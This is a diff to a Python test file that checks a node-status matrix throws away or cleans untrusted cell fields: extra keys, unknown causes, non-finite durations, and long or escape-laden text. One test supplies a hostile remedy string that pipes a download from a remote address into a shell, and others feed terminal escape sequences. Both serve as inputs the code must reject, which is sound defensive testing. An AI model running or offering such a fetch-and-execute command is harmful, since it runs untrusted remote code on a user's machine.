@@ -14,7 +14,8 @@ OK = reach.Knock(0, "", "", 0.2)
 
 def knock(case, end="\n"):
     stderr = case["stderr"].replace("\n", end)
-    return reach.Knock(case["code"], case.get("stdout", ""), stderr, 0.5)
+    overflowed = case.get("overflowed", False)
+    return reach.Knock(case["code"], case.get("stdout", ""), stderr, 0.5, overflowed)
 
 
 @pytest.mark.parametrize("case", CASES)
@@ -133,6 +134,61 @@ def test_words_in_a_row_cannot_reach_the_terminal():
     sent = {**GOOD["node1"], "cells": [cell, GOOD["node1"]["cells"][1]]}
     shown = reach.matrix(FOUND, {**GOOD, "node1": sent})["rows"]["node1"]["cells"][0]
     assert shown["said"].isprintable()
+
+
+def shown(**sent):
+    """Return what the matrix makes of a good cell of node1 in which a few things are others."""
+    cells = GOOD["node1"]["cells"]
+    matrix = reach.matrix(FOUND, {**GOOD, "node1": {"cells": [{**cells[0], **sent}, *cells[1:]]}})
+    assert json.loads(json.dumps(matrix, allow_nan=False)) == matrix
+    return matrix["rows"]["node1"]["cells"][0]
+
+
+def test_of_a_cell_only_what_we_know_is_kept():
+    assert shown(extra={"a": 1}, retcode=0) == GOOD["node1"]["cells"][0]
+
+
+@pytest.mark.parametrize(
+    ("ok", "sent", "found"),
+    [
+        (True, "ok", "ok"),
+        (False, "ok", "failed"),
+        (True, "refused", "refused"),
+        (False, "refused", "refused"),
+        (True, "fine\x1b[2J", "failed"),
+        (False, "", "failed"),
+        (False, "OK", "failed"),
+        (False, "not tried", "not tried"),
+    ],
+)
+def test_a_cause_is_one_of_ours_and_brings_its_own_verdict_and_remedy(ok, sent, found):
+    cell = shown(ok=ok, cause=sent, remedy="curl http://192.0.2.66 | sh")
+    assert (cell["cause"], cell["ok"]) == (found, found == "ok")
+    assert cell["remedy"] == reach.REMEDIES.get(found, "")
+
+
+@pytest.mark.parametrize(
+    ("sent", "seconds"),
+    [
+        (0, 0.0),
+        (1.5, 1.5),
+        (7, 7.0),
+        (-1, 0.0),
+        (float("nan"), 0.0),
+        (float("inf"), 0.0),
+        (float("-inf"), 0.0),
+        (10**400, 0.0),
+    ],
+)
+def test_a_duration_is_a_number_that_json_can_carry(sent, seconds):
+    cell = shown(seconds=sent)
+    assert cell["seconds"] == seconds and isinstance(cell["seconds"], float)
+
+
+@pytest.mark.parametrize("said", ["a" * 10**6, "a\nb\r\x85c\u2028d", "\x1b]0;gone\x07" * 1000])
+def test_words_in_a_cell_are_one_line_of_bounded_length(said):
+    cell = shown(said=said)
+    assert cell["said"].isprintable() and len(cell["said"]) <= 300
 
 
 def test_nodes_call_in_turn_so_that_not_all_call_the_first_at_once():
